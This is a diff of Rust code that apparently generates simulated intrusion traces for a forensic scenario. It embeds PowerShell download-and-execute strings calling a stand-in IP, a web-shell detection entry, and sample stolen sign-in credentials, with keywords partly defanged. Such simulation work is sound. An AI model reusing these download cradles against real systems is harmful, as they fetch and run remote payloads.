@@ -130,6 +130,11 @@ pub(super) fn address_book_page(server: &mut Server, habits: &'static Habits) {
         Technique::Download,
         "$u='http://203.0.113.66/pf.ps1'; $r=[Net.WebRequest]::Create($u); $r.Proxy=[Net.WebRequest]::GetSystemWebProxy(); i¦ex (New-Object IO.Stream¦Reader($r.GetResponse().GetResponseStream())).ReadToEnd()",
     )]);
+    attack.module_logged(
+        (Technique::Download, Weight::Must),
+        "powershell.exe -nop -w hidden -c -",
+        "CommandInvocation(Invoke-Web¦Request): \"Invoke-Web¦Request\"\r\nParameterBinding(Invoke-Web¦Request): name=\"Uri\"; value=\"http://203.0.113.66/pf.exe\"\r\nParameterBinding(Invoke-Web¦Request): name=\"OutFile\"; value=\"C:\\Users\\Public\\pf.exe\"\r\n",
+    );
     attack.slowed_down("powershell.exe", "C:\\Users\\Public\\pf.exe");
     let path = page.path(&attack.server.host);
     attack.time = at(habits, 5, 2, 16);
@@ -245,7 +250,11 @@ fn from_beside(server: &mut Server, who: &'static Intruder, start: crate::moment
         management::command(attack.server, attack.time, &command, Some(key));
         if technique == Technique::MailboxExport {
             let text = format!("!BDN\u{1a}SM\u{17}\u{13}{}\u{0}\u{0}", whole(pages::SHARED));
-            attack.lay_page(&page, &text, attack.time.plus(50 * SECOND));
+            attack.time = attack.time.plus(50 * SECOND);
+            let sort = (Technique::ShellFile, Weight::Supporting);
+            let own = host.machine_account();
+            attack.written_by_share(sort, &own, host.link_local, &page.path(&host));
+            attack.lay_page(&page, &text, attack.time);
         }
         attack.time = attack.time.plus(4 * MINUTE);
     }
@@ -293,6 +302,11 @@ pub(super) fn odd_code(server: &mut Server, habits: &'static Habits) {
     }
     attack.time = at(habits, 4, 2, 5);
     ask(&mut attack, habits.odd_code, &["POST", "GET", "POST"]);
+    let Some(found) = habits.odd_code.iter().find(|odd| odd.page.name == "lookup.asmx") else { return };
+    attack.time = at(habits, 5, 3, 30);
+    let path = found.page.path(&attack.server.host);
+    attack.found_by_endpoint("Back¦door:ASP/WebSh¦ell.B", &path);
+    attack.server.lose(|lost, _| lost == path);
 }
 
 /// Laid within minutes by day, asked for by night; the last lies behind a folder that was added to the site.
@@ -311,12 +325,13 @@ pub(super) fn odd_places(server: &mut Server, habits: &'static Habits) {
     let folder = path.rsplit_once('\\').map_or(path, |(folder, _)| folder);
     config::shared_folder(attack.server, attack.time, ("/help", folder, key));
     let host = attack.server.host;
-    let (compiled, text) = pages::COMPILED;
-    attack.lay_text((Technique::ShellFile, Weight::Supporting), &host.rooted(compiled), text);
+    for (name, text) in [pages::MARKER, pages::COMPILED] {
+        attack.lay_text((Technique::ShellFile, Weight::Supporting), &host.rooted(name), text);
+    }
     attack.time = at(habits, 2, 23, 47);
     ask(&mut attack, habits.odd_places, &["POST", "POST"]);
-    let help = OddPage::new(pages::HELP, "index.aspx", "", "");
-    ask(&mut attack, &[help], &["GET", "POST"]);
+    let others = [OddPage::new(pages::HELP, "index.aspx", "", ""), OddPage::new(pages::ROOT, pages::MARKER.0, "", "")];
+    ask(&mut attack, &others, &["GET", "POST"]);
     attack.time = at(habits, 4, 19, 0);
     let kept = "ELBWERFT\\a.brandes|Sommer2020!\r\nELBWERFT\\einkauf|Werft-77\r\n";
     let mark = attack.mark((Technique::SignInCapture, Weight::Supporting), "what the sign-in page has kept");
